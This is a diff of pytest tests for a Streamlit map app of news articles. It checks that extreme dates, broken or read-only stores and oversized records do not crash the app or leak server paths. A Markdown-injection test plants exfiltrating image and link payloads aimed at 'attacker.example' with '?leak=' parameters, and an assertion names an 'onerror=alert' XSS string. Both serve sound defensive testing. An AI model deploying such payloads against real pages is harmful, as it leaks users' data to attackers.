@@ -61,6 +61,7 @@ def run_app(monkeypatch, db: str, params: dict[str, str] | None = None) -> AppTe
 
 
 def table_names(at: AppTest) -> list[str]:
+    assert len(at.dataframe), [e.value for e in at.error]  # a section that failed says so here
     return sorted(at.dataframe[0].value["name"].tolist())
 
 
@@ -171,7 +172,7 @@ def test_frozen_snapshot_is_shown_instead_of_the_store(monkeypatch, seed_db, tmp
         view = View(filters=Filters(date_from=date(2020, 12, 1)))
         sid = share.save_snapshot(s, view, s.query(view.filters), "Dec")
     at = run_app(monkeypatch, db, {"snapshot": sid})
-    assert any(sid in i.value for i in at.info)
+    assert any(sid in i.value.replace("\\", "") for i in at.info)  # shown as escaped Markdown
     assert sorted(at.dataframe[0].value["name"].tolist()) == ["Baku", "Netherlands"]
 
 
@@ -202,3 +203,221 @@ def test_side_panel_opens_the_whole_article_as_text(monkeypatch, seed_db):
     body = html_text(at)
     assert "white-space:pre-wrap" in body and "Protesters in <mark>Baku</mark>" in body
     assert "<script>" not in body and "&lt;img src=x onerror=alert(2)&gt;" in body
+
+
+# --- robustness: every store ingest can write opens; no traceback or server path on a page ------
+def _no_traceback_or_path(at: AppTest, *paths: str) -> None:
+    assert not at.exception, at.exception
+    shown = " ".join(str(e.value) for kind in ("error", "warning", "info", "caption", "markdown")
+                     for e in at.get(kind)) + html_text(at)  # fmt: skip
+    shown = shown.replace("\\", "")  # Markdown escapes would hide a path from a plain search
+    assert "Traceback" not in shown and 'File "' not in shown
+    for p in paths:
+        assert p not in shown, p
+
+
+@pytest.fixture(scope="module")
+def far_dates_db(tmp_path_factory) -> str:
+    """Real articles quote history ("in 1602") and stores can hold any year 1..9999."""
+    db = str(tmp_path_factory.mktemp("far") / "store.sqlite")
+    with Store(db) as s:
+        a = _art("old", "In 1602 London burned.", date(2020, 1, 1), "Hist")
+        s.upsert_article(a, [_men(a, "London", LONDON, date(1602, 5, 1))])
+        b = _art("far", "Baku in the far future.", date(2020, 1, 1), "Fut")
+        s.upsert_article(b, [_men(b, "Baku", BAKU, date(9999, 12, 31))])
+        c = _art("now", "Tovuz today.", date(2020, 7, 12), "Now")
+        s.upsert_article(c, [_men(c, "Tovuz", TOVUZ, date(2020, 7, 12))])
+    return db
+
+
+def test_a_store_with_dates_from_1602_to_9999_opens(monkeypatch, far_dates_db):
+    at = run_app(monkeypatch, far_dates_db)
+    _no_traceback_or_path(at, far_dates_db)
+    assert table_names(at) == ["Baku", "London", "Tovuz"]  # the slider's ends include both extremes
+    lo, hi = at.sidebar.slider[0].value
+    assert lo.year >= 1685 and hi.year <= 2254
+    assert any("1602-05-01" in c.value and "9999-12-31" in c.value for c in at.sidebar.caption)
+    at.sidebar.slider[0].set_value((date(2000, 1, 1), hi)).run()  # moving the lower end drops 1602
+    assert not at.exception and table_names(at) == ["Baku", "Tovuz"]
+
+
+def test_only_extreme_dates_still_open(monkeypatch, tmp_path):
+    db = str(tmp_path / "s.sqlite")
+    with Store(db) as s:
+        a = _art("old", "In 1602 London burned; Baku too.", date(1602, 5, 2), "Hist")
+        s.upsert_article(a, [_men(a, "London", LONDON, date(1602, 5, 1)), _men(a, "Baku", BAKU, date(1650, 1, 1))])
+    at = run_app(monkeypatch, db)
+    _no_traceback_or_path(at, db)
+    assert table_names(at) == ["Baku", "London"]
+
+
+def test_a_failing_section_is_one_short_message_and_the_rest_draws(monkeypatch, seed_db):
+    from mapapp import mapview
+
+    def broken(*a, **k):
+        raise RuntimeError(f"boom in {seed_db}")
+
+    monkeypatch.setattr(mapview, "layer_from_rows", broken)
+    at = run_app(monkeypatch, seed_db)
+    _no_traceback_or_path(at, seed_db)
+    assert any("The map could not be shown" in e.value for e in at.error)
+    assert table_names(at) == ["Baku", "London", "Netherlands", "Tovuz"]  # the table still drew
+
+
+@pytest.mark.parametrize("kind", ["garbage", "directory", "newer"])
+def test_an_unusable_store_is_one_message_without_its_path(monkeypatch, tmp_path, kind):
+    import sqlite3
+
+    from mapapp.store import known_schema
+
+    db = str(tmp_path / "store.sqlite")
+    if kind == "garbage":
+        Path(db).write_bytes(b"\x00garbage" * 1000)
+    elif kind == "directory":
+        Path(db).mkdir()
+    else:
+        Store(db).close()
+        con = sqlite3.connect(db)
+        con.execute("INSERT INTO schema_migrations(version, name, applied_at) VALUES (?, 'x', 'x')", (known_schema() + 1,))
+        con.commit()
+        con.close()
+    at = run_app(monkeypatch, db)
+    _no_traceback_or_path(at, str(tmp_path))
+    assert len(at.error) == 1 and "Cannot open the store store.sqlite:" in at.error[0].value.replace("\\", "")
+
+
+# --- Markdown injection: file names, titles and outlets are shown as text, never as Markdown ---
+ATTACKER = "attacker.example"
+MD_FILE = f"![y](https:{ATTACKER}?leak=1).txt"
+MD_TITLE = f"Read [this](https://{ATTACKER}/t?leak=2) ![i](https://{ATTACKER}/i.png?leak=3) www.{ATTACKER} :red[x]"
+
+
+def _markdown_sources(at: AppTest) -> list[str]:
+    """The Markdown source of every element Streamlit renders as Markdown."""
+    out = [str(e.value) for kind in ("markdown", "caption", "warning", "info", "error", "success")
+           for e in at.get(kind)]  # fmt: skip
+    return out + [e.label for e in at.expander]
+
+
+def test_markdown_in_file_names_and_titles_is_shown_as_text(monkeypatch, tmp_path):
+    import re
+
+    db = str(tmp_path / "s.sqlite")
+    with Store(db) as s:
+        a = Article(id="md", path=f"/corpus/{MD_FILE}", text="Shelling near Tovuz.", title=MD_TITLE,
+                    published=date(2020, 7, 12), published_how="header", source=f"[outlet](https://{ATTACKER}/s)")  # fmt: skip
+        s.upsert_article(a, [_men(a, "Tovuz", TOVUZ, date(2020, 7, 12))])
+    at = run_app(monkeypatch, db, {"place": TOVUZ.id})
+    sources = _markdown_sources(at)
+    joined = "\n".join(sources)
+    assert "leak\\=1" in joined and "leak\\=2" in joined  # the file name and title are on the page...
+    for src in sources:  # ...and none of it is Markdown syntax Streamlit would act on
+        assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\):red\[", src), src
+        assert not re.search(r"https?\\?:\\?/|www\\?\.", src), src  # no autolink either (Streamlit makes
+        # links of https://x and www.x even when every character is backslash-escaped)
+
+
+# --- one huge record does not swamp the page ------------------------------------------------------
+def _proto_bytes(node) -> int:
+    """Bytes of every element protobuf under an AppTest node (what the page is sent)."""
+    total = 0
+    proto = getattr(node, "proto", None)
+    if proto is not None and hasattr(proto, "ByteSize"):
+        total += proto.ByteSize()
+    for child in getattr(node, "children", {}).values():
+        total += _proto_bytes(child)
+    return total
+
+
+def test_a_huge_record_sends_a_small_page(monkeypatch, tmp_path):
+    """A record written straight to the store (old stores have them): 2 MB title, 1 MB outlet,
+    1 MB sentence, long URL, path and text. The page, the side panel and the table stay small."""
+    db = str(tmp_path / "s.sqlite")
+    big_title, big_source = "T" * 2_000_000, "S" * 1_000_000
+    text = "Tovuz " + "x" * 1_000_000
+    with Store(db) as s:
+        a = Article(id="huge", path="/corpus/" + "p" * 100_000 + ".txt", text=text, title=big_title,
+                    published=date(2020, 7, 12), published_how="header", source=big_source,
+                    url="https://example.org/" + "u" * 100_000)  # fmt: skip
+        s.upsert_article(a, [Mention(article_id="huge", start=0, end=5, name="Tovuz", place=TOVUZ, score=0.9,
+                                     sentence=text, sentence_start=0, event_date=date(2020, 7, 12),
+                                     date_precision="day")])  # fmt: skip
+        b = _art("ok", "Protest in Baku.", date(2020, 7, 13), "Trend")
+        s.upsert_article(b, [_men(b, "Baku", BAKU, date(2020, 7, 13))])
+    at = run_app(monkeypatch, db, {"place": TOVUZ.id})
+    assert table_names(at) == ["Baku", "Tovuz"]
+    sent = _proto_bytes(at._tree)
+    assert sent < 400_000, sent  # was over 13 MB
+    assert "T" * 299 in html_text(at) and "T" * 301 not in html_text(at)  # the title is cut, not dropped
+    table = at.dataframe[0].value
+    assert table["title"].map(len).max() <= 300 and table["source"].map(len).max() <= 120
+    assert table["sentence"].map(len).max() <= 2000
+    assert big_source not in at.sidebar.multiselect(key="w_sources").options
+    assert "Trend" in at.sidebar.multiselect(key="w_sources").options
+    assert not at.exception
+
+
+def test_snapshot_page_side_panel_reads_articles_and_reasons(monkeypatch, seed_db, tmp_path):
+    """``?snapshot=ID``: choosing a place shows its whole articles and why its marker is there."""
+    import shutil
+
+    from mapapp import share
+    from mapapp.query import Filters
+    from mapapp.view import View
+
+    db = str(tmp_path / "snap.sqlite")
+    shutil.copy(seed_db, db)
+    with Store(db) as s:
+        view = View(filters=Filters(date_from=date(2020, 12, 1)))
+        sid = share.save_snapshot(s, view, s.query(view.filters), "Dec")
+    at = run_app(monkeypatch, db, {"snapshot": sid})
+    at.selectbox(key="w_place").set_value(BAKU.id).run()
+    assert not at.exception
+    labels = [e.label for e in at.expander]
+    assert "Why is this marker here?" in labels, labels
+    assert any(lbl.startswith("Read the whole article") for lbl in labels), labels
+    assert not any("no longer in the store" in c.value for c in at.caption)
+    assert "Protesters in <mark>Baku</mark>" in html_text(at)
+
+
+def test_a_read_only_store_opens_and_saving_a_snapshot_says_so(monkeypatch, seed_db, tmp_path):
+    """``chmod a-w``: the app reads the store without writing it (mapapp respects the mode even
+    for root); saving a snapshot is one short message."""
+    import hashlib
+    import os
+    import shutil
+
+    db = tmp_path / "ro.sqlite"
+    shutil.copy(seed_db, db)
+    os.chmod(db, 0o444)
+    before = hashlib.sha256(db.read_bytes()).hexdigest()
+    at = run_app(monkeypatch, str(db))
+    assert table_names(at) == ["Baku", "London", "Netherlands", "Tovuz"]
+    at.button(key="mapapp_share_save").click().run()
+    assert not at.exception
+    assert any("read-only" in e.value for e in at.error), [e.value for e in at.error]
+    assert hashlib.sha256(db.read_bytes()).hexdigest() == before
+
+
+def test_a_huge_record_with_many_mentions_keeps_the_app_small(monkeypatch, tmp_path):
+    """Each mention row carries its article's title and outlet: 150 mentions of a record with a
+    2 MB title and a 1 MB outlet were 450 MB of strings per query. Long text is cut in SQL."""
+    import tracemalloc
+
+    db = str(tmp_path / "s.sqlite")
+    text = "Tovuz. " * 150
+    with Store(db) as s:
+        a = Article(id="huge", path="/corpus/huge.txt", text=text, title="T" * 2_000_000, published=date(2020, 7, 12),
+                    published_how="header", source="S" * 1_000_000)  # fmt: skip
+        s.upsert_article(a, [Mention(article_id="huge", start=7 * i, end=7 * i + 5, name="Tovuz", place=TOVUZ,
+                                     score=0.9, sentence=f"Tovuz item {i}.", sentence_start=7 * i,
+                                     event_date=date(2020, 7, 12), date_precision="day") for i in range(150)])  # fmt: skip
+    tracemalloc.start()
+    try:
+        at = run_app(monkeypatch, db, {"place": TOVUZ.id})
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert table_names(at)[:1] == ["Tovuz"]
+    assert peak < 150_000_000, peak  # the title and outlet are read a few times, not once per row
+    assert _proto_bytes(at._tree) < 400_000
